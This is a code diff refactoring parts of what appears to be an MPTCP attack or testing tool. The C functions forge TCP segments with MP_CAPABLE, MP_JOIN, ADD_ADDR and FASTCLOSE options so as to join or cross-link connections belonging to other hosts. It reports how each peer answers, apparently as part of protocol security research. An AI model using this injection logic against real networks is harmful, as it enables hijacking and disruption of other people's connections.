@@ -11,21 +11,6 @@
 
 #include "attacker.h"
 
-#define CAPABLE_SYN_LEN 4
-
-static uint8_t *put_timestamps(uint8_t *at, const struct segment *synack)
-{
-	const uint8_t *stamps = find_option(synack, TCPOPT_TIMESTAMP, 0);
-
-	if (!stamps || stamps[1] != TCPOLEN_TIMESTAMP)
-		return at;
-	*at++ = TCPOPT_NOP;
-	*at++ = TCPOPT_NOP;
-	*at++ = TCPOPT_TIMESTAMP;
-	*at++ = TCPOLEN_TIMESTAMP;
-	return put32(put32(at, get32(stamps + 6)), get32(stamps + 2));
-}
-
 /* As from who opens the connection */
 static void end_first(int path, const uint8_t *from_mac,
 		      const struct segment *synack, uint64_t sender_key,
@@ -40,10 +25,13 @@ static void end_first(int path, const uint8_t *from_mac,
 		.seq = synack->ack,
 		.ack = synack->seq + 1,
 	};
+	const uint8_t *stamps = find_option(synack, TCPOPT_TIMESTAMP, 0);
+	uint8_t *at = plan.options;
 	struct frame frame;
-	uint8_t *at;
 
-	at = put_capable(put_timestamps(plan.options, synack), CAPABLE_ACK_LEN);
+	if (stamps && stamps[1] == TCPOLEN_TIMESTAMP)
+		at = put_timestamps(at, get32(stamps + 6), get32(stamps + 2));
+	at = put_capable(at, CAPABLE_ACK_LEN);
 	at = put64(put64(at, sender_key), receiver_key);
 	plan.options_len = (unsigned int)(at - plan.options);
 	make_segment(&frame, &plan);
@@ -72,9 +60,9 @@ static bool next_synack(bool own, const struct endpoint *self, int64_t until,
 }
 
 /* What the server sends on the attacker's connection to join there */
-static uint8_t *next_join(uint8_t len, const struct endpoint *self,
-			  int64_t until, struct frame *frame,
-			  struct segment *segment, bool *refused)
+static uint8_t *server_join(uint8_t len, const struct endpoint *self,
+			    int64_t until, struct frame *frame,
+			    struct segment *segment, bool *refused)
 {
 	uint8_t *join;
 
@@ -93,37 +81,15 @@ static uint8_t *next_join(uint8_t len, const struct endpoint *self,
 	return NULL;
 }
 
-static void answer_join(int path, const struct segment *syn, uint64_t hmac,
-			uint32_t nonce)
-{
-	struct plan plan = {
-		.flags = TH_SYN | TH_ACK,
-		.from_mac = links[path][SERVER].mac,
-		.to_mac = links[path][SERVER].peer_mac,
-		.from = syn->to,
-		.to = syn->from,
-		.seq = random32(),
-		.ack = syn->seq + 1,
-		.options = { MPTCP_KIND, JOIN_SYNACK_LEN, MP_JOIN << 4, 67 },
-		.options_len = JOIN_SYNACK_LEN,
-	};
-	struct frame frame;
-
-	put32(put64(plan.options + 4, hmac), nonce);
-	make_segment(&frame, &plan);
-	send_frame(&links[path][SERVER], &frame);
-}
-
 /* An option that the server sends on the attacker's connection, as it is, from the client */
-static bool pass_option(uint8_t subtype, int path, const struct endpoint *self,
+static bool pass_option(uint8_t subtype, const struct endpoint *self,
 			int64_t until)
 {
 	const struct connection *x;
-	struct plan plan = { .flags = TH_ACK };
+	const struct link *link;
 	struct segment segment;
 	struct frame frame;
 	const uint8_t *option;
-	uint8_t *at = plan.options;
 
 	do {
 		if (!pump(until, false, &frame))
@@ -136,24 +102,8 @@ static bool pass_option(uint8_t subtype, int path, const struct endpoint *self,
 	x = last_connection();
 	if (!x)
 		return false;
-	if (x->senders[CLIENT].timestamps) {
-		*at++ = TCPOPT_NOP;
-		*at++ = TCPOPT_NOP;
-		*at++ = TCPOPT_TIMESTAMP;
-		*at++ = TCPOLEN_TIMESTAMP;
-		at = put32(put32(at, x->senders[CLIENT].tsval),
-			   x->senders[CLIENT].tsecr);
-	}
-	memcpy(at, option, option[1]);
-	plan.options_len = (unsigned int)(at - plan.options) + option[1];
-	plan.from_mac = links[path][CLIENT].peer_mac;
-	plan.to_mac = links[path][SERVER].peer_mac;
-	plan.from = x->ends[CLIENT];
-	plan.to = x->ends[SERVER];
-	plan.seq = x->senders[CLIENT].next;
-	plan.ack = x->senders[CLIENT].ack;
-	make_segment(&frame, &plan);
-	send_frame(&links[path][SERVER], &frame);
+	link = make_next(&frame, x, SERVER, option, option[1]);
+	send_frame(link, &frame);
 	return true;
 }
 
@@ -179,7 +129,6 @@ bool cmd_cross(void)
 	struct frame frame_x, frame_y, frame;
 	struct segment synack_x, synack_y, segment;
 	struct attempt own, attempt;
-	enum answer answer;
 	bool refused = false;
 	uint8_t *join;
 
@@ -200,72 +149,34 @@ bool cmd_cross(void)
 
 	if (arg_is("what", "add-addr", "join")) {
 		printf(" announced=%d",
-		       pass_option(MP_ADD_ADDR, own.path, &own.from, until));
+		       pass_option(MP_ADD_ADDR, &own.from, until));
 		return true;
 	}
 	if (arg_is("what", "fastclose", "join")) {
 		printf(" closed=%d",
-		       pass_option(MP_FASTCLOSE, own.path, &own.from, until));
+		       pass_option(MP_FASTCLOSE, &own.from, until));
 		return true;
 	}
-	join = next_join(JOIN_SYN_LEN, &own.from, until, &frame, &segment,
-			 &refused);
+	join = server_join(JOIN_SYN_LEN, &own.from, until, &frame, &segment,
+			   &refused);
 	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
 	if (!join)
 		return true;
 	x.ends[SERVER] = synack_x.from;
 	x.keys[CLIENT] = key_y;
 	x.keys[SERVER] = key_x;
-	start_attempt(&attempt, &x, &x, 1);
-	attempt.token = get32(join + 4);
-	attempt.nonces[CLIENT] = get32(join + 8);
-	send_syn(&attempt);
-	answer = take_synack(&attempt);
-	printf(" syn=%s", answers[answer]);
-	if (answer != ANSWERED)
+	if (!copy_answered(&attempt, &x, join))
 		return true;
-	answer_join(path_of(&segment), &segment, attempt.synack,
+	send_synack(path_of(&segment), SERVER, &segment, attempt.synack,
 		    attempt.nonces[SERVER]);
-	join = next_join(JOIN_ACK_LEN, &own.from, now_ms() + patience_ms,
-			 &frame, &segment, &refused);
+	join = server_join(JOIN_ACK_LEN, &own.from, now_ms() + patience_ms,
+			   &frame, &segment, &refused);
 	printf(" server=%s", answers[join    ? ANSWERED :
 				     refused ? REFUSED :
 					       SILENT]);
 	if (join)
 		end_join(&attempt, &x, join + 4);
 	return true;
-}
-
-/* The next segment of the other host's, with an option of this subtype */
-static uint8_t *hear(uint8_t subtype, int64_t until, struct frame *frame,
-		     struct segment *segment)
-{
-	const uint8_t *mac = links[OTHER_HOST][CLIENT].peer_mac;
-	uint8_t *option;
-
-	while (pump(until, false, frame)) {
-		if (!parse_segment(frame, segment) ||
-		    memcmp(segment->eth->ether_shost, mac, ETH_ALEN))
-			continue;
-		option = find_mptcp(segment, subtype);
-		if (option)
-			return option;
-	}
-	return NULL;
-}
-
-static void answer_other(const struct segment *heard, struct plan *plan)
-{
-	const struct link *link = &links[OTHER_HOST][CLIENT];
-	struct frame frame;
-
-	plan->from = heard->to;
-	plan->to = heard->from;
-	plan->ack = heard->seq + heard->payload_len + heard->tcp->syn;
-	plan->from_mac = link->mac;
-	plan->to_mac = link->peer_mac;
-	make_segment(&frame, plan);
-	send_frame(link, &frame);
 }
 
 /*
@@ -276,18 +187,15 @@ static void answer_other(const struct segment *heard, struct plan *plan)
  */
 bool cmd_cross_lured(void)
 {
-	struct plan synack = { .flags = TH_SYN | TH_ACK, .seq = random32() };
-	struct plan ack = { .flags = TH_ACK, .seq = synack.seq + 1 };
 	int64_t until = now_ms() + 20 * patience_ms;
 	struct endpoint nobody = { 0 };
 	struct connection x = { 0 };
 	struct frame frame_other, frame_x, frame;
 	struct segment other, synack_x, segment;
 	struct attempt attempt;
-	enum answer answer;
-	uint8_t *capable, *join, *at;
+	uint8_t *capable, *join;
 
-	if (!hear(MP_CAPABLE, until, &frame_other, &other))
+	if (!hear_other(MP_CAPABLE, until, &frame_other, &other))
 		return false;
 	printf(" waits=1");
 	watch = true;
@@ -296,12 +204,9 @@ bool cmd_cross_lured(void)
 		return false;
 	printf(" seen=1");
 	x.ends[SERVER] = synack_x.from;
-	at = put_capable(synack.options, CAPABLE_SYNACK_LEN);
-	at = put64(at, x.keys[SERVER]);
-	synack.options_len = (unsigned int)(at - synack.options);
-	answer_other(&other, &synack);
+	accept_other(&other, x.keys[SERVER]);
 	do
-		capable = hear(MP_CAPABLE, until, &frame, &segment);
+		capable = hear_other(MP_CAPABLE, until, &frame, &segment);
 	while (capable && capable[1] < CAPABLE_ACK_LEN);
 	if (!capable)
 		return false;
@@ -311,36 +216,20 @@ bool cmd_cross_lured(void)
 		  x.keys[SERVER]);
 	watch = false;
 
-	/* As in attack_lure.c */
-	while (capable && !segment.payload_len)
-		capable = hear(MP_CAPABLE, until, &frame, &segment);
-	if (!capable)
+	/* The ACK alone has them first, and then the byte again */
+	if (!take_first_byte(until))
 		return false;
-	at = ack.options;
-	*at++ = MPTCP_KIND;
-	*at++ = 12;
-	*at++ = MP_DSS << 4;
-	*at++ = 0x3; /* data ack of 8 bytes */
-	at = put64(at, key_first_dsn(x.keys[CLIENT]) + segment.payload_len);
-	ack.options_len = (unsigned int)(at - ack.options);
-	answer_other(&segment, &ack);
-
-	join = hear(MP_JOIN, until, &frame, &segment);
+	join = hear_other(MP_JOIN, until, &frame, &segment);
 	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
 	if (!join)
 		return true;
-	start_attempt(&attempt, &x, &x, 1);
-	attempt.token = get32(join + 4);
-	attempt.nonces[CLIENT] = get32(join + 8);
-	send_syn(&attempt);
-	answer = take_synack(&attempt);
-	printf(" syn=%s", answers[answer]);
-	if (answer != ANSWERED)
+	if (!copy_answered(&attempt, &x, join))
 		return true;
-	send_synack(OTHER_HOST, &segment, attempt.synack,
+	send_synack(OTHER_HOST, CLIENT, &segment, attempt.synack,
 		    attempt.nonces[SERVER]);
 	do
-		join = hear(MP_JOIN, now_ms() + patience_ms, &frame, &segment);
+		join = hear_other(MP_JOIN, now_ms() + patience_ms, &frame,
+				  &segment);
 	while (join && join[1] != JOIN_ACK_LEN);
 	printf(" other=%s", answers[join ? ANSWERED : SILENT]);
 	if (join)
